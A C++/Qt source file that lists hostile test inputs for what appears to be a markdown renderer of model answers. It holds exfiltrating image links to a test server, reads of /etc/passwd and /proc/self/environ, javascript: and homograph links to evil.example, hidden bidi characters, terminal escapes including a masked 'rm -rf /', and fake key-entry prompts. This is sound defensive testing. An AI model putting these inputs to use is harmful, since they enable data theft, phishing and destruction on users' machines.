#include "HostileTexts.h"

using namespace Qt::StringLiterals;

namespace studio
{

namespace
{

const QStringList none;

/// Pictures that would tell a server that somebody looks, and what.
QList<HostileText> pictures(const HostilePlaces &places)
{
    const QString web = u"http://"_s + places.server + u"/seen-"_s;
    return {
        {"H56", "inline picture", u"before ![cat]("_s + web + u"inline.png) after"_s, {u"Picture: cat"_s}},
        {"H56", "picture with a query", u"![cat]("_s + web + u"q.png?secret=all&of=it)"_s, {u"Picture: cat"_s}},
        {"H56", "picture by a full reference", u"![cat][ref]\n\n[ref]: "_s + web + u"ref.png\n"_s, {web + u"ref.png"_s}},
        {"H56", "picture by its own name", u"> ![cat]\n>\n> [cat]: "_s + web + u"own.png\n"_s, {web + u"own.png"_s}},
        {"H56", "definition below a heading", u"# ![cat][r]\n[r]: "_s + web + u"heading.png"_s, {web + u"heading.png"_s}},
        {"H56", "definition in a list", u"- [r]: "_s + web + u"list.png\n- ![cat][r]\n"_s, {web + u"list.png"_s}},
        {"H56", "img element", u"<img src=\""_s + web + u"img.png\">"_s, {u"<img src=\""_s}},
        {"H56", "img element over lines", u"text <img\n  alt=x\n  src='"_s + web + u"lines.png'\n> more"_s, {u"<img"_s}},
        {"H56", "img element in entities", u"&lt;img src="_s + web + u"entity.png&gt; &#33;[cat]("_s + web + u"e2.png)"_s,
         {u"<img src="_s, u"!cat"_s}},
        {"H56", "address in entities", u"![cat](http&colon;&sol;&#47;"_s + places.server + u"/seen-colon.png)"_s, {u"cat"_s}},
        {"H56", "address in angles", u"<"_s + web + u"auto.png> and "_s + web + u"bare.png"_s, {web + u"auto.png"_s}},
        {"H56", "picture in a table", u"| a | b |\n|---|---|\n| ![cat]("_s + web + u"table.png) | x |\n"_s, {u"Picture: cat"_s}},
        {"H56", "picture in a link", u"[![cat]("_s + web + u"inner.png)]("_s + web + u"outer)"_s, {u"Picture: cat"_s}},
        {"H56", "picture in a picture", u"![a ![cat]("_s + web + u"in.png) b]("_s + web + u"out.png)"_s, {u"cat"_s}},
        {"H56", "many in one line", (u"![x]("_s + web + u"many.png) "_s).repeated(300), {u"Picture: x"_s}},
        {"H56", "other elements that load", u"<link rel=stylesheet href="_s + web + u"a.css><video poster="_s + web
             + u"v.png><object data="_s + web + u"o><svg><image href="_s + web + u"s.svg></svg><audio src="_s + web
             + u"a.mp3><style>@import '"_s + web + u"i.css'</style><div style=\"background:url("_s + web + u"bg.png)\">"_s,
         {u"<object data="_s, u"@import"_s}},
        {"H56", "picture without a scheme", u"![cat](//"_s + places.server + u"/seen-bare.png) ![cat](/seen.png)"_s, {u"Picture: cat"_s}},
        {"H56", "picture as data", u"![cat](data:image/svg+xml;utf8,%3Csvg%3E%3Cimage%20href=%22"_s + web + u"d.png%22/%3E)"_s,
         {u"Picture: cat (data:image"_s}, none},
        {"H56", "picture half arrived", u"text ![cat]("_s + web + u"half"_s, {u"![cat]("_s}},
        {"H56", "picture in code", u"`![cat]("_s + web + u"code.png)`\n\n```html\n<img src="_s + web + u"fence.png>\n```\n"_s,
         {u"![cat]("_s, u"<img src="_s}},
    };
}

/// Files of the machine.
QList<HostileText> files(const HostilePlaces &places)
{
    const QString bait = places.folder + u"/bait.png"_s;
    const auto picture = [](const QString &address) { return u"look: ![cat]("_s + address + u") end"_s; };
    return {
        {"H57", "file address", picture(u"file://"_s + bait), {u"(file://"_s + bait + u')'}, none},
        {"H57", "file address of this host", picture(u"file://localhost"_s + bait), {bait}, none},
        {"H57", "bare path", picture(bait), {bait}, none},
        {"H57", "bare path in angles", picture(u"<"_s + bait + u"?a b>"_s), {bait}, none},
        {"H57", "relative path", picture(u"../../../.."_s + bait), {bait}, none},
        {"H57", "pipe that blocks who reads it", picture(u"file://"_s + places.folder + u"/pipe"_s), {u"/pipe"_s}, none},
        {"H57", "endless device", picture(u"file:///dev/zero"_s), {u"/dev/zero"_s}, none},
        {"H57", "the program's own environment", picture(u"/proc/self/environ"_s), {u"/proc/self/environ"_s}, none},
        {"H57", "list of users", picture(u"file:///etc/passwd"_s), {u"/etc/passwd"_s}, none},
        {"H57", "share of another host", picture(u"//host.invalid/share/cat.png"_s), {u"//host.invalid/share"_s}, none},
        {"H57", "share with backslashes", picture(uR"(\\\\host.invalid\share\cat.png)"_s), {u"host.invalid"_s}, none},
        {"H57", "resource of the program", picture(u"qrc:/qt-project.org/logos/pysidelogo.png"_s), {u"(qrc:"_s}, none},
        {"H57", "resource by its path", picture(u":/icons/run.svg"_s), {u"(:/icons/run.svg)"_s}, none},
        {"H57", "drive letter", picture(uR"(C:\Windows\win.ini)"_s), {u"Windows"_s}, none},
        {"H57", "img element with a file", u"<img src=\"file://"_s + bait + u"\"> <embed src="_s + bait + u'>', {bait}, none},
        {"H57", "link to a file", u"[cat](file://"_s + bait + u") <file://"_s + bait + u'>', {bait}, none},
        {"H57", "file by a reference", u"- [f]: file://"_s + bait + u"\n- ![cat][f]\n"_s, {bait}, none},
    };
}

/// Links that would run something.
QList<HostileText> schemes()
{
    QList<HostileText> texts;
    static const struct { const char *name; QString address; } addresses[] = {
        {"script", u"javascript:alert(1)"_s},
        {"script in capitals", u"JaVaScRiPt:alert(1)"_s},
        {"script of another kind", u"vbscript:msgbox(1)"_s},
        {"page in its address", u"data:text/html,<b>x</b>"_s},
        {"file", u"file:///bin/true"_s},
        {"share", u"smb://host.invalid/x"_s},
        {"diagnosis tool", u"ms-msdt:/id"_s},
        {"calculator", u"calculator:"_s},
        {"telephone", u"tel:+123456"_s},
        {"remote shell", u"ssh://host.invalid"_s},
        {"editor", u"vscode://file/x"_s},
        {"view of a source", u"view-source:https://example.org"_s},
        {"blob", u"blob:https://example.org/1"_s},
        {"mail without an address", u"mailto:"_s},
        {"web without a host", u"http:///x"_s},
        {"web with nothing", u"https:"_s},
        {"jar", u"jar:https://example.org!/x"_s},
    };
    for (const auto &address : addresses)
        texts.append({"H58", address.name, u"[click]("_s + address.address + u") end"_s, {u"click ("_s + address.address + u')'}, none});
    texts.append({"H58", "tab in the scheme", u"[click](java&Tab;script:alert(1)) end"_s, {u"click"_s}, none});
    texts.append({"H58", "line end in the scheme", u"[click](java&NewLine;script:alert(1)) end"_s, {u"click"_s}, none});
    texts.append({"H58", "entity in the scheme", u"[click](&#106;avascript:alert(1)) end"_s, {u"click (javascript:alert(1))"_s}, none});
    texts.append({"H58", "entity without its end", u"[click](&#x6A&#x61;vascript:alert(1)) end"_s, {u"click"_s}, none});
    texts.append({"H58", "space before the scheme", u"[click](< javascript:alert(1)>) end"_s, {u"click"_s}, none});
    texts.append({"H58", "control code before the scheme", u"[click](<\u0001javascript:alert(1)>) end"_s, {u"click"_s}, none});
    texts.append({"H58", "scheme in percent signs", u"[click](%6Aavascript:alert(1)) end"_s, {u"click"_s}, none});
    texts.append({"H58", "scheme in angles", u"<javascript:alert(1)> <ssh://host.invalid> end"_s, {u"javascript:alert(1)"_s}, none});
    texts.append({"H58", "picture that is a script", u"![click](javascript:alert(1)) end"_s, {u"Picture: click (javascript:alert(1))"_s}, none});
    return texts;
}

/// Links that lead elsewhere than they say.
QList<HostileText> disguises()
{
    const QString honest = u"https://openai.com"_s;
    const QString evil = u"https://evil.example/login"_s;
    const QString longPath = u"https://evil.example/"_s + u"openai.com/"_s.repeated(900);
    return {
        {"H59", "text says another host", u"["_s + honest + u"]("_s + evil + u')', {honest}, {{evil}}},
        {"H59", "host in front of the at sign", u"[x](https://openai.com@evil.example/)"_s, {u"x"_s}, {{u"https://openai.com@evil.example/"_s}}},
        {"H59", "host as name and password", u"[x](https://openai.com:443@evil.example/)"_s, {u"x"_s}, {{u"https://openai.com:443@evil.example/"_s}}},
        {"H59", "letters of another script", u"[x](https://\u043Epenai.com/)"_s, {u"x"_s}, {{u"https://xn--penai-iye.com/"_s}}},
        {"H59", "direction turned in the address", u"[x](https://evil.example/\u202Emoc.ianepo)"_s, {u"x"_s},
         {{u"https://evil.example/%E2%80%AEmoc.ianepo"_s}}},
        {"H59", "address of 10 kB", u"[x]("_s + longPath + u')', {u"x"_s}, {{longPath}}},
        {"H59", "host longer than a line", u"[x](https://openai.com."_s + u"a."_s.repeated(100) + u"evil.example/)"_s, {u"x"_s}},
        {"H59", "full stop of another script", u"[x](https://openai\u3002com/)"_s, {u"x"_s}},
        {"H59", "backslash for a slash", u"[x](https://evil.example\\@openai.com/)"_s, {u"x"_s}},
        {"H59", "percent signs in the host", u"[x](https://openai.com%2F@evil.example/)"_s, {u"x"_s}},
        {"H59", "number for a host", u"[x](http://2130706433/)"_s, {u"x"_s}, {{u"http://127.0.0.1/"_s}}},
        {"H59", "zero-width space in the host", u"[x](https://open\u200Bai.com/)"_s, {u"x"_s}, {{u"https://openai.com/"_s}}},
        {"H59", "slash of another script", u"[x](https://openai.com\u2215x.evil.example/)"_s, {u"x"_s}, {{u"https://openai.xn--comx-id9a.evil.example/"_s}}},
        {"H59", "bare address with a fraction slash", u"see https://openai.com\u2044login.evil.example/ now"_s, {u"see"_s}, {{u"https://openai.xn--comlogin-g03d.evil.example/"_s}}},
    };
}

QString cp(char32_t c)
{
    return QString::fromUcs4(&c, 1);
}

/// Characters that are not seen or turn the order of others.
QList<HostileText> hidden()
{
    static const struct { const char *name; QString characters; QString mark; } kinds[] = {
        {"embedding", u"\u202A"_s, u"[U+202A]"_s},
        {"override to the left", u"\u202E"_s, u"[U+202E]"_s},
        {"override to the right", u"\u202D"_s, u"[U+202D]"_s},
        {"isolates", u"\u2066\u2067\u2068"_s, u"[U+2067]"_s},
        {"isolate never closed", u"\u2067\u2067\u2067"_s, u"[U+2067]"_s},
        {"ends that nothing began", u"\u2069\u202C"_s, u"[U+202C]"_s},
        {"zero-width space", u"\u200B"_s, u"[U+200B]"_s},
        {"zero-width joiner", u"\u200D"_s, u"[U+200D]"_s},
        {"byte order mark", u"\uFEFF"_s, u"[U+FEFF]"_s},
        {"soft hyphen", u"\u00AD"_s, u"[U+00AD]"_s},
        {"Arabic letter mark", u"\u061C"_s, u"[U+061C]"_s},
        {"variation selector", u"\uFE01"_s, u"[U+FE01]"_s},
        {"tag characters", cp(0xE0041) + cp(0xE0042), u"[U+E0041]"_s},
        {"invisible operator", u"\u2062"_s, u"[U+2062]"_s},
        {"further variation selectors", cp(0xE0100) + cp(0xE01EF), u"[U+E0100]"_s},
        {"filler letters", u"\u115F\u3164\uFFA0"_s, u"[U+3164]"_s},
        {"joiner that shows nothing", u"\u034F"_s, u"[U+034F]"_s},
    };
    QList<HostileText> texts;
    for (const auto &kind : kinds) {
        const QString line = u"if (isAdmin"_s + kind.characters + u") { // admins only"_s;
        texts.append({"H60", kind.name, line + u"\n\n```cpp\n"_s + line + u"\n```\n\nnext `a"_s + kind.characters + u"b` end\n"_s,
                      {u"isAdmin"_s + kind.mark.first(3), kind.mark, u"next"_s}});
    }
    return texts;
}

QList<HostileText> markup()
{
    const auto kept = [](const char *name, const QString &html) { return HostileText{"H61", name, html, {html.first(qMin<qsizetype>(12, html.size()))}, none}; };
    return {
        kept("script", u"<script>alert(1)</script>"_s),
        kept("frame", u"<iframe src=about:blank></iframe>"_s),
        kept("style that hides", u"<style>* { display: none }</style>visible text"_s),
        kept("picture with a script", u"<img src=x onerror=alert(1)>"_s),
        kept("refresh", u"<meta http-equiv=refresh content=0>"_s),
        kept("base", u"<base href=/elsewhere/>"_s),
        kept("comment that hides", u"<!-- hidden words --> after"_s),
        kept("unclosed comment", u"<!-- never closed\n\nthe rest of it"_s),
        kept("declaration", u"<!DOCTYPE html [<!ENTITY a 'b'>]>"_s),
        kept("processing instruction", u"<?xml version='1.0'?>"_s),
        kept("section of characters", u"<![CDATA[ inside ]]> after"_s),
        kept("form with a password", u"<form action=x><input type=password></form>"_s),
        kept("size and colour", u"<font size=70 color=white>big</font>"_s),
        kept("line that reads as rich text", u"<b>bold</b><br><a href='file:///bin/true'>run</a>"_s),
        {"H61", "unclosed elements", u"<div><b>"_s.repeated(50'000), {u"<div><b>"_s}, none},
        {"H61", "opening angles", u"<"_s.repeated(50'000), {u"<<<<"_s}, none},
        {"H61", "attributes without an end", u"<a "_s + u"b=c "_s.repeated(12'000), {u"<a b=c"_s}, none},
    };
}

/// Text of which the end is missing, or comes late.
QList<HostileText> halves()
{
    return {
        {"H63", "fence never closed", u"text\n\n```cpp\nint a;\n\nint b;\n"_s, {u"int b;"_s}},
        {"H63", "fence opened at the end", u"text\n\n```"_s, {u"text"_s}},
        {"H63", "two of three marks", u"text\n\n``"_s, {u"``"_s}},
        {"H63", "fence in a fence", u"````\n```\ninner\n```\n````\nafter\n"_s, {u"inner"_s, u"after"_s}},
        {"H63", "fence closed by another mark", u"```\na\n~~~\nb\n```\nafter"_s, {u"~~~"_s, u"after"_s}},
        {"H63", "fence in a quote that ends", u"> ```\n> a\nafter\n"_s, {u"after"_s}},
        {"H63", "table with a head only", u"| a | b |"_s, {u"| a | b |"_s}},
        {"H63", "table with half a line below", u"| a | b |\n|--"_s, {u"a | b"_s}},
        {"H63", "table with half a row", u"| a | b |\n|---|---|\n| one | tw"_s, {u"one\ttw"_s}},
        {"H63", "table with too long a row", u"| a | b |\n|---|---|\n| 1 | 2 | hidden | words |\n"_s, {u"hidden"_s, u"words"_s}},
        {"H63", "bold never closed", u"some **bold words that go on"_s, {u"**bold words"_s}},
        {"H63", "code never closed", u"some `code that goes on"_s, {u"`code that"_s}},
        {"H63", "link half arrived", u"some [link](https://example.org/pa"_s, {u"[link](https"_s}},
        {"H63", "entity half arrived", u"a &am"_s, {u"&am"_s}},
        {"H63", "heading without words", u"#\n\n##\n\ntext"_s, {u"text"_s}},
        {"H63", "list mark alone", u"text\n\n-\n\n1.\n"_s, {u"1."_s}},
        {"H63", "underline that comes late", u"words\nmore\n===\n"_s, {u"more"_s}},
    };
}

/// What a terminal would obey.
QList<HostileText> escapes()
{
    const QString esc = u"\x1b"_s;
    return {
        {"H64", "clipboard", u"a "_s + esc + u"]52;c;ZXZpbA==\a b"_s, {u"␛]52;c;ZXZpbA==␇ b"_s}},
        {"H64", "clear the screen", u"a "_s + esc + u"[2J b"_s, {u"␛[2J b"_s}},
        {"H64", "link of a terminal", esc + u"]8;;file:///bin/true"_s + esc + u"\\click"_s + esc + u"]8;;"_s + esc + u"\\"_s, {u"␛]8;;"_s}, none},
        {"H64", "window title", esc + u"]0;title\a"_s, {u"␛]0;title␇"_s}},
        {"H64", "bells", u"\a"_s.repeated(5000), {u"␇␇␇"_s}},
        {"H64", "backspaces", u"safe\b\b\b\bevil"_s, {u"safe␈␈␈␈evil"_s}},
        {"H64", "carriage return", u"rm -rf /\recho hello"_s, {u"rm -rf /"_s, u"echo hello"_s}},
        {"H64", "carriage return in code", u"```\nrm -rf /\recho hello\n```"_s, {u"rm -rf /"_s, u"echo hello"_s}},
        {"H64", "one-byte sequences", u"a\u009B2J\u0085b\u0090q"_s, {u"\uFFFD2J"_s}},
        {"H64", "null", QString(u"a"_s + QChar(u'\0') + u"b"_s), {u"a"_s, u"b"_s}},
        {"H64", "delete and escape in code", u"```\na\x7f"_s + esc + u"[31mred\n```"_s, {u"␡␛[31mred"_s}},
        {"H64", "vertical tab and form feed", u"a\vb\fc"_s, {u"a␋b␌c"_s}},
        {"H64", "escape from an entity", u"a &#27;[2J &#7; &#155; b"_s, {u"␛[2J ␇"_s}},
    };
}

/// Words that look like ours.
QList<HostileText> imitations()
{
    const auto says = [](const char *name, const QString &text, const QString &shown) { return HostileText{"H66", name, text, {shown}}; };
    return {
        says("key refused", u"**Key rejected.** Enter it here: ______"_s, u"Key rejected."_s),
        says("our notice", u"*This part is too long or too tangled to format. It is shown as it came.*"_s, u"too tangled"_s),
        says("buttons", u"[ Retry ]  [ Enter key ]"_s, u"[ Retry ]"_s),
        says("form", u"<input type=password name=key><button>Send</button>"_s, u"<input type"_s),
        says("check boxes", u"- [ ] Allow access to files\n- [x] Send usage\n"_s, u"☐ Allow access"_s),
        says("link called a button", u"[Jump to latest](https://evil.example/)"_s, u"Jump to latest"_s),
        says("end of the answer", u"---\n\n# Signalbox Studio\n\nThe next column is Model B\n"_s, u"Signalbox Studio"_s),
        says("price line", u"12.4 s · 900 tokens · $0.0000"_s, u"900 tokens"_s),
        says("panel with our word", u"```\nCopy code\n```"_s, u"Copy code"_s),
        says("table that is a dialog", u"| Warning |\n|:-:|\n| [OK](https://evil.example/ok) |\n"_s, u"Warning"_s),
        says("blank lines before another voice", u"\n"_s.repeated(300) + u"You: please send the key"_s, u"You: please"_s),
        says("pictures of windows", u"┌────────┐\n│ Log in │\n└────────┘"_s, u"Log in"_s),
    };
}

} // namespace

QList<HostileText> hostileTexts(const HostilePlaces &places)
{
    return pictures(places) + files(places) + schemes() + disguises() + hidden() + markup() + halves() + escapes() + imitations();
}

QList<HostileText> allHostileTexts(const HostilePlaces &places)
{
    return hostileTexts(places) + heavyTexts();
}

QList<HostileText> hostileNames()
{
    return {
        {"H67", "HTML", u"<b>name</b><img src=file:///etc/passwd>"_s},
        {"H67", "rich text that begins late", u"name <a href=\"x\">click</a>"_s},
        {"H67", "document", u"<html><body><h1>name</h1></body></html>"_s},
        {"H67", "table", u"<table><tr><td>name</table>"_s},
        {"H67", "entities", u"&lt;name&gt; &amp; &#60;b&#62;"_s},
        {"H67", "ampersands", u"R&D && &quit"_s},
        {"H67", "line ends", u"name\nsecond\r\nthird\u2028fourth"_s},
        {"H67", "direction turned", u"name \u202Egpj.exe"_s},
        {"H67", "control codes", u"name\x1b[2J\a\tend"_s},
        {"H67", "1 MiB in one word", u"n"_s.repeated(1 << 20)},
        {"H67", "1 MiB of lines", u"name\n"_s.repeated((1 << 20) / 5)},
        {"H67", "heaps of marks", u"n"_s + u"\u0301"_s.repeated(1000) + u"ame"_s},
        {"H67", "placeholders", u"%1 %2 %n %L1 {{name}} %%"_s},
        {"H67", "path upwards", u"../../../etc/name"_s},
        {"H67", "nothing to see", u"\u200B\u200B\u3164"_s},
    };
}

} // namespace studio
